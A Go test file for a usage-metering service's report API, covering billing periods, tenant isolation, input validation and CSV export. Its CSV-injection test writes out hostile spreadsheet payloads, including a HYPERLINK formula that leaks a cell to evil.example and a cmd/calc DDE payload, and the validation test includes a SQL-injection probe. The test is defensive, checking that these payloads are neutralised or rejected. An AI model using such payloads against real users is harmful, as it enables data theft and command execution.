package report_test

import (
	"context"
	"database/sql"
	"encoding/json"
	"errors"
	"io"
	"math"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"reflect"
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"

	ch "github.com/ClickHouse/clickhouse-go/v2"

	"github.com/meterd/meterd/aggregator"
	"github.com/meterd/meterd/aggregator/clickhouse"
	"github.com/meterd/meterd/aggregator/report"
	"github.com/meterd/meterd/aggregator/sqlite"
	"github.com/meterd/meterd/api/apitest"
	"github.com/meterd/meterd/catalog"
	"github.com/meterd/meterd/internal/auth"
	"github.com/meterd/meterd/internal/chtest"
	"github.com/meterd/meterd/schemas"
)

func TestMain(m *testing.M) { chtest.Main(m) }

const (
	adminKey = "admin-key-0123456789"
	acmeKey  = "acme-key-0123456789a"
)

func at(s string) time.Time {
	t, err := time.Parse(time.RFC3339, s)
	if err != nil {
		panic(err)
	}
	return t
}

func ev(tenant, id, meter string, value int64, t string, dims ...string) schemas.Event {
	e := schemas.Event{Tenant: tenant, ID: id, Meter: meter, Value: value, Time: at(t)}
	if len(dims) > 0 {
		e.Dimensions = map[string]string{}
		for i := 0; i+1 < len(dims); i += 2 {
			e.Dimensions[dims[i]] = dims[i+1]
		}
	}
	return e
}

// events are the usage every report test reads. acme's billing anchor is
// the 31st, so its periods are Jan 31 – Feb 28, Feb 28 – Mar 31, Mar 31 –
// Apr 30; globex has daily periods; nobody is not in the catalog (monthly
// periods from the 1st).
var events = []schemas.Event{
	ev("acme", "a1", "api_calls", 1, "2026-01-30T23:59:59Z", "route", "/a"),
	ev("acme", "a2", "api_calls", 2, "2026-01-31T00:00:00Z", "route", "/a", "method", "GET"),
	ev("acme", "a3", "api_calls", 4, "2026-02-27T23:59:59Z", "route", "/b"),
	ev("acme", "a4", "api_calls", 8, "2026-02-28T00:00:00Z"),
	ev("acme", "a5", "api_calls", 16, "2026-03-30T23:59:59Z", "route", "/a", "method", "POST"),
	ev("acme", "a6", "api_calls", 32, "2026-03-31T00:00:00Z", "route", "/b"),
	ev("acme", "a7", "api_calls", 64, "2026-03-31T00:30:00Z", "route", "/b"),
	ev("acme", "t1", "tokens", 1000, "2026-02-01T10:00:00Z", "model", "small"),
	ev("globex", "g1", "api_calls", 100, "2026-02-01T10:15:00Z", "route", "/a"),
	ev("globex", "g2", "api_calls", 200, "2026-02-01T23:59:59Z", "route", "/a"),
	ev("globex", "g3", "api_calls", 400, "2026-02-02T00:00:00Z", "route", "/a"),
	ev("nobody", "n1", "api_calls", 7, "2026-01-31T12:00:00Z"),
	ev("nobody", "n2", "api_calls", 9, "2026-02-01T12:00:00Z"),
}

const catalogYAML = `plans:
  free:  {period: monthly, limits: {api_calls: 1000}}
  daily: {period: daily, limits: {api_calls: 10}}
tenants:
  acme:   {plan: free, billing_anchor: 2026-01-31}
  globex: {plan: daily}
`

func loadCatalog(t testing.TB) *catalog.Catalog {
	t.Helper()
	path := filepath.Join(t.TempDir(), "catalog.yaml")
	if err := writeFile(path, catalogYAML); err != nil {
		t.Fatal(err)
	}
	c, err := catalog.LoadCatalogFile(path)
	if err != nil {
		t.Fatal(err)
	}
	return c
}

// stores runs fn against each store filled with events.
func stores(t *testing.T, fn func(t *testing.T, srv *httptest.Server)) {
	storesWith(t, events, nil, fn)
}

// addRollup inserts a row into a store's rollups_hourly behind its back.
type addRollup func(tenant, meter string, hour time.Time, value, events int64)

// storesWith runs fn against each store filled with evs and then with the
// rollup rows extra adds.
func storesWith(t *testing.T, evs []schemas.Event, extra func(add addRollup), fn func(t *testing.T, srv *httptest.Server)) {
	for _, name := range []string{"sqlite", "clickhouse"} {
		t.Run(name, func(t *testing.T) {
			var st aggregator.Store
			var add addRollup
			var err error
			if name == "sqlite" {
				path := filepath.Join(t.TempDir(), "m.db")
				st, err = sqlite.New(sqlite.Config{Path: path})
				add = func(tenant, meter string, hour time.Time, value, events int64) {
					db, err := sql.Open("sqlite", path)
					if err == nil {
						_, err = db.Exec(`INSERT INTO rollups_hourly (tenant, meter, hour, dims_key, value, events) VALUES (?, ?, ?, '', ?, ?)`,
							tenant, meter, hour.Unix(), value, events)
						db.Close()
					}
					if err != nil {
						t.Fatal(err)
					}
				}
			} else {
				dsn := chtest.DSN(t)
				st, err = clickhouse.New(context.Background(), clickhouse.Config{DSN: dsn})
				add = func(tenant, meter string, hour time.Time, value, events int64) {
					opts, err := ch.ParseDSN(dsn)
					if err != nil {
						t.Fatal(err)
					}
					conn, err := ch.Open(opts)
					if err != nil {
						t.Fatal(err)
					}
					defer conn.Close()
					ctx, cancel := context.WithTimeout(context.Background(), 10*time.Second)
					defer cancel()
					b, err := conn.PrepareBatch(ctx, `INSERT INTO rollups_hourly (tenant, meter, hour, dims_key, value, events)`)
					if err == nil {
						if err = b.Append(tenant, meter, hour, "", value, events); err == nil {
							err = b.Send()
						}
					}
					if err != nil {
						t.Fatal(err)
					}
				}
			}
			if err != nil {
				t.Fatal(err)
			}
			t.Cleanup(func() { st.Close() })
			if _, err := st.Apply(context.Background(), []*schemas.Batch{{ID: "b1", Events: evs}}); err != nil {
				t.Fatal(err)
			}
			if extra != nil {
				extra(add)
			}
			keys, err := auth.NewKeys([]auth.Key{{Key: adminKey, Admin: true}, {Key: acmeKey, Tenant: "acme"}})
			if err != nil {
				t.Fatal(err)
			}
			cat := loadCatalog(t)
			h, err := report.New(report.Config{Store: st, Keys: keys, Catalog: func() *catalog.Catalog { return cat },
				Now: func() time.Time { return at("2026-04-10T12:00:00Z") }})
			if err != nil {
				t.Fatal(err)
			}
			fn(t, serveReport(t, h))
		})
	}
}

type answer struct {
	status int
	header http.Header
	body   string
}

func get(t *testing.T, srv *httptest.Server, key, query string, header ...string) answer {
	t.Helper()
	req, err := http.NewRequest(http.MethodGet, srv.URL+"/v1/usage?"+query, nil)
	if err != nil {
		t.Fatal(err)
	}
	if key != "" {
		req.Header.Set("Authorization", "Bearer "+key)
	}
	for i := 0; i+1 < len(header); i += 2 {
		req.Header.Set(header[i], header[i+1])
	}
	resp, err := srv.Client().Do(req)
	if err != nil {
		t.Fatal(err)
	}
	defer resp.Body.Close()
	b, err := io.ReadAll(resp.Body)
	if err != nil {
		t.Fatal(err)
	}
	return answer{resp.StatusCode, resp.Header, string(b)}
}

// rows reads a JSON report as lines "tenant meter start end value events dims".
func rows(t *testing.T, a answer) []string {
	t.Helper()
	if a.status != http.StatusOK {
		t.Fatalf("status %d: %s", a.status, a.body)
	}
	if ct := a.header.Get("Content-Type"); ct != report.MediaJSON {
		t.Fatalf("Content-Type %q", ct)
	}
	// Strictly: a member the encoder writes and Document lacks fails, and
	// so does one of Document the encoder leaves out (the body and the
	// Document read from it, written again, are the same JSON).
	dec := json.NewDecoder(strings.NewReader(a.body))
	dec.DisallowUnknownFields()
	var rep report.Document
	if err := dec.Decode(&rep); err != nil {
		t.Fatalf("%v: %s", err, a.body)
	}
	again, err := json.Marshal(rep)
	if err != nil {
		t.Fatal(err)
	}
	var sent, read any
	if err := json.Unmarshal([]byte(a.body), &sent); err != nil {
		t.Fatal(err)
	}
	if err := json.Unmarshal(again, &read); err != nil {
		t.Fatal(err)
	}
	if !reflect.DeepEqual(sent, read) {
		t.Fatalf("the report as sent and as Document holds it differ:\n%s\n%s", a.body, again)
	}
	var out []string
	for _, r := range rep.Rows {
		line := r.Tenant + " " + r.Meter + " " + r.WindowStart.Format(time.RFC3339) + " " + fmtInt(r.Value) + " " + fmtInt(r.Events)
		for _, d := range rep.GroupBy {
			line += " " + d + "=" + r.Dimensions[d]
		}
		out = append(out, line)
	}
	return out
}

// windowEnds reads the window_end of every row of a JSON report.
func windowEnds(t *testing.T, a answer) []string {
	t.Helper()
	var rep struct {
		Rows []struct {
			WindowEnd string `json:"window_end"`
		} `json:"rows"`
	}
	if err := json.Unmarshal([]byte(a.body), &rep); err != nil {
		t.Fatal(err)
	}
	var out []string
	for _, r := range rep.Rows {
		out = append(out, r.WindowEnd)
	}
	return out
}

func want(t *testing.T, what string, got []string, want ...string) {
	t.Helper()
	if !slices.Equal(got, want) {
		t.Errorf("%s:\n got  %q\n want %q", what, got, want)
	}
}

func TestReportPeriods(t *testing.T) {
	stores(t, func(t *testing.T, srv *httptest.Server) {
		// acme's periods from an anchor on the 31st: Jan 31, Feb 28, Mar 31.
		a := get(t, srv, adminKey, "tenant=acme&meter=api_calls&window=period&from=2026-01-01T00:00:00Z&to=2026-05-01T00:00:00Z")
		want(t, "acme periods", rows(t, a),
			"acme api_calls 2026-01-01T00:00:00Z 1 1",  // Dec 31 – Jan 31, clipped to from
			"acme api_calls 2026-01-31T00:00:00Z 6 2",  // Jan 31 – Feb 28
			"acme api_calls 2026-02-28T00:00:00Z 24 2", // Feb 28 – Mar 31
			"acme api_calls 2026-03-31T00:00:00Z 96 2", // Mar 31 – Apr 30
		)
		want(t, "acme period ends", windowEnds(t, a),
			"2026-01-31T00:00:00Z", "2026-02-28T00:00:00Z", "2026-03-31T00:00:00Z", "2026-04-30T00:00:00Z")

		// Every tenant, February: acme's periods, globex's days, nobody's
		// calendar month; a bound inside a period clips the window.
		a = get(t, srv, adminKey, "window=period&from=2026-02-01T10:00:00Z&to=2026-03-01T00:00:00Z")
		want(t, "all tenants", rows(t, a),
			"acme api_calls 2026-02-01T10:00:00Z 4 1",
			"acme api_calls 2026-02-28T00:00:00Z 8 1",
			"acme tokens 2026-02-01T10:00:00Z 1000 1",
			"globex api_calls 2026-02-01T10:00:00Z 300 2",
			"globex api_calls 2026-02-02T00:00:00Z 400 1",
			"nobody api_calls 2026-02-01T10:00:00Z 9 1",
		)
		want(t, "all tenants ends", windowEnds(t, a),
			"2026-02-28T00:00:00Z", "2026-03-01T00:00:00Z", "2026-02-28T00:00:00Z",
			"2026-02-02T00:00:00Z", "2026-02-03T00:00:00Z", "2026-03-01T00:00:00Z")

		// Grouped by a dimension: one row per period and route.
		a = get(t, srv, adminKey, "tenant=acme&meter=api_calls&window=period&group_by=route&from=2026-01-31T00:00:00Z&to=2026-04-30T00:00:00Z")
		want(t, "acme periods by route", rows(t, a),
			"acme api_calls 2026-01-31T00:00:00Z 2 1 route=/a",
			"acme api_calls 2026-01-31T00:00:00Z 4 1 route=/b",
			"acme api_calls 2026-02-28T00:00:00Z 8 1 route=",
			"acme api_calls 2026-02-28T00:00:00Z 16 1 route=/a",
			"acme api_calls 2026-03-31T00:00:00Z 96 2 route=/b",
		)
	})
}

func TestReportCalendarWindows(t *testing.T) {
	stores(t, func(t *testing.T, srv *httptest.Server) {
		a := get(t, srv, adminKey, "tenant=acme&meter=api_calls&window=month&from=2026-01-15T12:30:00Z&to=2026-04-01T00:00:00Z")
		want(t, "months", rows(t, a),
			"acme api_calls 2026-01-15T12:30:00Z 3 2",
			"acme api_calls 2026-02-01T00:00:00Z 12 2",
			"acme api_calls 2026-03-01T00:00:00Z 112 3",
		)
		want(t, "month ends", windowEnds(t, a), "2026-02-01T00:00:00Z", "2026-03-01T00:00:00Z", "2026-04-01T00:00:00Z")

		// Edges inside hours come from the raw events.
		a = get(t, srv, adminKey, "tenant=globex&window=hour&from=2026-02-01T10:15:00Z&to=2026-02-02T00:00:00Z")
		want(t, "hours", rows(t, a),
			"globex api_calls 2026-02-01T10:15:00Z 100 1",
			"globex api_calls 2026-02-01T23:00:00Z 200 1",
		)
		a = get(t, srv, adminKey, "tenant=globex&window=hour&from=2026-02-01T10:15:01Z&to=2026-02-01T23:59:59Z")
		want(t, "hours, both edges partial", rows(t, a))

		a = get(t, srv, adminKey, "window=day&group_by=route,method&from=2026-03-30T00:00:00Z&to=2026-04-01T00:00:00Z")
		want(t, "days by two dimensions", rows(t, a),
			"acme api_calls 2026-03-30T00:00:00Z 16 1 route=/a method=POST",
			"acme api_calls 2026-03-31T00:00:00Z 96 2 route=/b method=",
		)
	})
}

// TestReportSaturatedTotals: a tenant whose usage sums beyond int64 (rows
// written behind the store's back: no accepted event can get there) reads
// as math.MaxInt64, flagged saturated, in every window, never negative; the
// reports of everyone else still answer 200 with exact numbers. Before, the
// sum wrapped negative on ClickHouse and failed every report covering the
// row with a 503 on SQLite.
func TestReportSaturatedTotals(t *testing.T) {
	const maxI64 = math.MaxInt64
	big := func(add addRollup) {
		add("hog", "api_calls", at("2026-02-01T10:00:00Z"), maxI64, 1)
		add("hog", "api_calls", at("2026-02-02T10:00:00Z"), maxI64, 1)
		add("hog", "api_calls", at("2026-02-02T11:00:00Z"), 1, 1)
	}
	storesWith(t, events, big, func(t *testing.T, srv *httptest.Server) {
		a := get(t, srv, adminKey, "from=2026-02-01T00:00:00Z&to=2026-02-03T00:00:00Z&window=day")
		want(t, "admin, day", rows(t, a),
			"acme tokens 2026-02-01T00:00:00Z 1000 1",
			"globex api_calls 2026-02-01T00:00:00Z 300 2",
			"globex api_calls 2026-02-02T00:00:00Z 400 1",
			"hog api_calls 2026-02-01T00:00:00Z 9223372036854775807 1",
			"hog api_calls 2026-02-02T00:00:00Z 9223372036854775807 2",
			"nobody api_calls 2026-02-01T00:00:00Z 9 1")
		if n := strings.Count(a.body, `"saturated":true`); n != 2 {
			t.Errorf("%d rows flagged saturated, want 2: %s", n, a.body)
		}
		a = get(t, srv, adminKey, "tenant=hog&from=2026-02-01T00:00:00Z&to=2026-03-01T00:00:00Z&window=period")
		want(t, "hog, period", rows(t, a), "hog api_calls 2026-02-01T00:00:00Z 9223372036854775807 3")
		a = get(t, srv, acmeKey, "from=2026-01-01T00:00:00Z&to=2026-04-01T00:00:00Z&window=month")
		want(t, "acme's own key", rows(t, a),
			"acme api_calls 2026-01-01T00:00:00Z 3 2",
			"acme api_calls 2026-02-01T00:00:00Z 12 2",
			"acme api_calls 2026-03-01T00:00:00Z 112 3",
			"acme tokens 2026-02-01T00:00:00Z 1000 1")
		if strings.Contains(a.body, "saturated") {
			t.Errorf("acme's exact report flagged saturated: %s", a.body)
		}
	})
}

func TestReportCSV(t *testing.T) {
	stores(t, func(t *testing.T, srv *httptest.Server) {
		const wantCSV = "tenant,meter,window_start,window_end,route,value,events\n" +
			"acme,api_calls,2026-01-30T00:00:00Z,2026-01-31T00:00:00Z,/a,1,1\n" +
			"acme,api_calls,2026-01-31T00:00:00Z,2026-02-01T00:00:00Z,/a,2,1\n" +
			"nobody,api_calls,2026-01-31T00:00:00Z,2026-02-01T00:00:00Z,,7,1\n"
		for _, how := range [][]string{{"format=csv&"}, {"", "Accept", "text/csv"}, {"", "Accept", "text/html, text/csv;q=0.9"}} {
			a := get(t, srv, adminKey, how[0]+"window=day&meter=api_calls&group_by=route&from=2026-01-30T00:00:00Z&to=2026-02-01T00:00:00Z", how[1:]...)
			if a.status != http.StatusOK || a.body != wantCSV {
				t.Errorf("%q: status %d, body:\n%s\nwant:\n%s", how, a.status, a.body, wantCSV)
			}
			if ct := a.header.Get("Content-Type"); !strings.HasPrefix(ct, "text/csv") {
				t.Errorf("%q: Content-Type %q", how, ct)
			}
		}
		// An empty report still has its header.
		a := get(t, srv, adminKey, "format=csv&tenant=nobody&from=2020-01-01T00:00:00Z&to=2020-02-01T00:00:00Z")
		if a.body != "tenant,meter,window_start,window_end,value,events\n" {
			t.Errorf("empty CSV: %q", a.body)
		}
	})
}

func TestReportTenantIsolation(t *testing.T) {
	stores(t, func(t *testing.T, srv *httptest.Server) {
		const q = "window=month&from=2026-01-01T00:00:00Z&to=2026-05-01T00:00:00Z"
		// A tenant key without a tenant reads its own.
		got := rows(t, get(t, srv, acmeKey, q))
		want(t, "acme's key", got,
			"acme api_calls 2026-01-01T00:00:00Z 3 2",
			"acme api_calls 2026-02-01T00:00:00Z 12 2",
			"acme api_calls 2026-03-01T00:00:00Z 112 3",
			"acme tokens 2026-02-01T00:00:00Z 1000 1",
		)
		for _, other := range []string{"globex", "nobody", "unknown"} {
			a := get(t, srv, acmeKey, q+"&tenant="+other)
			if a.status != http.StatusForbidden || strings.Contains(a.body, "api_calls") || strings.Contains(a.body, "100") {
				t.Errorf("acme's key reading %s: %d %s", other, a.status, a.body)
			}
		}
		// The admin key reads every tenant.
		var tenants []string
		for _, r := range rows(t, get(t, srv, adminKey, q)) {
			if name, _, _ := strings.Cut(r, " "); !slices.Contains(tenants, name) {
				tenants = append(tenants, name)
			}
		}
		want(t, "admin's tenants", tenants, "acme", "globex", "nobody")

		for key, status := range map[string]int{"": 401, "not-a-key-0123456789": 401} {
			a := get(t, srv, key, q)
			if a.status != status || a.header.Get("Content-Type") != schemas.MediaProblem || strings.Contains(a.body, "acme") {
				t.Errorf("key %q: %d %s", key, a.status, a.body)
			}
		}
	})
}

func TestReportBadParameters(t *testing.T) {
	stores(t, func(t *testing.T, srv *httptest.Server) {
		for _, c := range []struct{ query, names string }{
			{"window=week", "window"},
			{"from=yesterday", "from"},
			{"to=2026-13-01T00:00:00Z", "to"},
			{"from=2026-02-01T00:00:00Z&to=2026-01-01T00:00:00Z", "from"},
			{"from=2026-02-01T00:00:00Z&to=2026-02-01T00:00:00Z", "from"},
			{"group_by=1route", "group_by"},
			{"group_by=route,route", "group_by"},
			{"group_by=route'%20OR%201=1", "group_by"},
			{"tenant=acme%20corp", "tenant"},
			{"meter=API_calls", "meter"},
			{"format=xml", "format"},
			{"groupby=route", "groupby"},
			{"window=hour&from=2026-01-01T00:00:00Z&to=2026-06-01T00:00:00Z", "window"},
			{"format=csv&group_by=value", "group_by"},
			{"window=day&window=month", "window"},
			{"window=week&meter=Bad&from=x", "from,meter,window"},
			{"tenant=%zz", "tenant"},
			{"meter=api_calls&group_by=%e", "group_by"},
			{"from=%G0&to=2026-02-01T00:00:00Z", "from"},
			{"format=csv&window=%", "window"},
			{"%zz=1", "%zz"},
			{"tenant=acme;meter=api_calls", "tenant"},
			{"tenant=acme&tenant=%zz", "tenant"},
			// Given but empty, never read as absent (every tenant).
			{"tenant=", "tenant"},
			{"tenant=&meter=", "meter,tenant"},
		} {
			a := get(t, srv, adminKey, c.query)
			var p schemas.Problem
			if err := json.Unmarshal([]byte(a.body), &p); err != nil || a.status != http.StatusBadRequest || a.header.Get("Content-Type") != schemas.MediaProblem {
				t.Errorf("%s: %d %s", c.query, a.status, a.body)
				continue
			}
			var names []string
			for _, ip := range p.InvalidParams {
				if !slices.Contains(names, ip.Name) {
					names = append(names, ip.Name)
				}
				if ip.Reason == "" || !strings.Contains(p.Detail, ip.Name) {
					t.Errorf("%s: parameter %s without reason or not in the detail %q", c.query, ip.Name, p.Detail)
				}
			}
			slices.Sort(names)
			if got := strings.Join(names, ","); got != c.names {
				t.Errorf("%s: invalid params %s, want %s (%s)", c.query, got, c.names, a.body)
			}
		}
	})
}

func TestParseQueryDefaults(t *testing.T) {
	cat := loadCatalog(t)
	now := at("2026-04-10T12:34:56Z")
	for _, c := range []struct{ query, from, to string }{
		{"", "2026-04-01T00:00:00Z", "2026-04-10T12:34:56Z"},
		{"window=hour", "2026-04-10T00:00:00Z", "2026-04-10T12:34:56Z"},
		{"window=period&tenant=acme", "2026-03-31T00:00:00Z", "2026-04-10T12:34:56Z"},
		{"window=period&tenant=globex", "2026-04-10T00:00:00Z", "2026-04-10T12:34:56Z"},
		{"window=period", "2026-03-31T00:00:00Z", "2026-04-10T12:34:56Z"},
		{"to=2026-02-15T00:00:00Z", "2026-02-01T00:00:00Z", "2026-02-15T00:00:00Z"},
	} {
		v, err := url.ParseQuery(c.query)
		if err != nil {
			t.Fatal(err)
		}
		q, bad := report.ParseQuery(v, "", now, cat)
		if len(bad) > 0 {
			t.Errorf("%s: %v", c.query, bad)
			continue
		}
		if got := q.From.Format(time.RFC3339) + " " + q.To.Format(time.RFC3339); got != c.from+" "+c.to {
			t.Errorf("%s: range %s, want %s %s", c.query, got, c.from, c.to)
		}
	}
}

func writeFile(path, s string) error { return os.WriteFile(path, []byte(s), 0o600) }

func fmtInt(n int64) string { return strconv.FormatInt(n, 10) }

// An undecodable tenant is a 400 naming it, for an admin and for a tenant
// key alike, never a report: dropped, it read as no tenant and an admin got
// every tenant's usage.
func TestReportUndecodableQuery(t *testing.T) {
	stores(t, func(t *testing.T, srv *httptest.Server) {
		const want = `{"type":"https://meterd.dev/problems/invalid-parameter","title":"Bad Request","status":400,` +
			`"detail":"invalid parameters: tenant: the value is not valid percent-encoding (% must be followed by two hex digits)",` +
			`"invalid_params":[{"name":"tenant","reason":"the value is not valid percent-encoding (% must be followed by two hex digits)"}]}`
		for _, key := range []string{adminKey, acmeKey} {
			for _, q := range []string{"tenant=%zz", "format=csv&tenant=%zz&window=month&from=2026-01-01T00:00:00Z&to=2026-05-01T00:00:00Z"} {
				a := get(t, srv, key, q)
				if a.status != http.StatusBadRequest || a.header.Get("Content-Type") != schemas.MediaProblem || a.body != want {
					t.Errorf("key %s, %s: status %d %s\n%s\nwant 400\n%s", key[:4], q, a.status, a.header.Get("Content-Type"), a.body, want)
				}
			}
		}
	})
}

// A dimension value or tenant that a spreadsheet would run as a formula
// reaches the CSV with a leading quote (OWASP's advice on CSV injection);
// JSON keeps every value as sent.
func TestReportCSVInjection(t *testing.T) {
	const hyperlink = `=HYPERLINK("https://evil.example/?"&A1,"details")`
	evs := []schemas.Event{
		ev("acme", "c1", "api_calls", 1, "2026-02-01T10:00:00Z", "route", hyperlink),
		ev("acme", "c2", "api_calls", 2, "2026-02-01T10:00:00Z", "route", "+1+cmd|' /C calc'!A0"),
		ev("acme", "c3", "api_calls", 4, "2026-02-01T10:00:00Z", "route", "-2+3"),
		ev("acme", "c4", "api_calls", 8, "2026-02-01T10:00:00Z", "route", "@SUM(A1:A9)"),
		ev("acme", "c5", "api_calls", 16, "2026-02-01T10:00:00Z", "route", "\t=1"),
		ev("acme", "c6", "api_calls", 32, "2026-02-01T10:00:00Z", "route", "\r=1"),
		ev("acme", "c7", "api_calls", 64, "2026-02-01T10:00:00Z", "route", "a=b+c"),
		ev("acme", "c8", "api_calls", 128, "2026-02-01T10:00:00Z", "route", "'quoted"),
		ev("-1-2", "c9", "api_calls", 256, "2026-02-01T10:00:00Z", "route", "/x"),
	}
	storesWith(t, evs, nil, func(t *testing.T, srv *httptest.Server) {
		const q = "window=month&group_by=route&from=2026-02-01T00:00:00Z&to=2026-03-01T00:00:00Z"
		a := get(t, srv, adminKey, "format=csv&"+q)
		const wantCSV = "tenant,meter,window_start,window_end,route,value,events\n" +
			"'-1-2,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,/x,256,1\n" +
			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,'\t=1,16,1\n" +
			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,\"'\r=1\",32,1\n" +
			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,'quoted,128,1\n" +
			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,'+1+cmd|' /C calc'!A0,2,1\n" +
			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,'-2+3,4,1\n" +
			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,\"'=HYPERLINK(\"\"https://evil.example/?\"\"&A1,\"\"details\"\")\",1,1\n" +
			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,'@SUM(A1:A9),8,1\n" +
			"acme,api_calls,2026-02-01T00:00:00Z,2026-03-01T00:00:00Z,a=b+c,64,1\n"
		if a.status != http.StatusOK || a.body != wantCSV {
			t.Errorf("CSV: status %d, body:\n%q\nwant:\n%q", a.status, a.body, wantCSV)
		}
		want(t, "JSON keeps the values", rows(t, get(t, srv, adminKey, q)),
			"-1-2 api_calls 2026-02-01T00:00:00Z 256 1 route=/x",
			"acme api_calls 2026-02-01T00:00:00Z 16 1 route=\t=1",
			"acme api_calls 2026-02-01T00:00:00Z 32 1 route=\r=1",
			"acme api_calls 2026-02-01T00:00:00Z 128 1 route='quoted",
			"acme api_calls 2026-02-01T00:00:00Z 2 1 route=+1+cmd|' /C calc'!A0",
			"acme api_calls 2026-02-01T00:00:00Z 4 1 route=-2+3",
			"acme api_calls 2026-02-01T00:00:00Z 1 1 route="+hyperlink,
			"acme api_calls 2026-02-01T00:00:00Z 8 1 route=@SUM(A1:A9)",
			"acme api_calls 2026-02-01T00:00:00Z 64 1 route=a=b+c",
		)
	})
}

// downStore is a store that cannot answer.
type downStore struct{}

func (downStore) Usage(context.Context, aggregator.UsageQuery, func(*aggregator.UsageRow) error) error {
	return errors.New("clickhouse: connection refused")
}

// A store that cannot answer gives 503 store-unavailable, as
// api/openapi.yaml says.
func TestOpenAPIReportStoreDown(t *testing.T) {
	keys, err := auth.NewKeys([]auth.Key{{Key: adminKey, Admin: true}})
	if err != nil {
		t.Fatal(err)
	}
	h, err := report.New(report.Config{Store: downStore{}, Keys: keys})
	if err != nil {
		t.Fatal(err)
	}
	srv := serveReport(t, h)
	apitest.New(t).Do(t, srv.Client(), apitest.Exchange{Name: "store down", Method: http.MethodGet, URL: srv.URL + "/v1/usage?window=day",
		Header: http.Header{"Authorization": {"Bearer " + adminKey}}, Status: 503, Problem: "store-unavailable", Conforms: true})
}

// serveReport serves h's routes until the test ends.
func serveReport(t *testing.T, h *report.Handler) *httptest.Server {
	t.Helper()
	mux := http.NewServeMux()
	h.Register(mux)
	srv := httptest.NewServer(mux)
	t.Cleanup(srv.Close)
	return srv
}
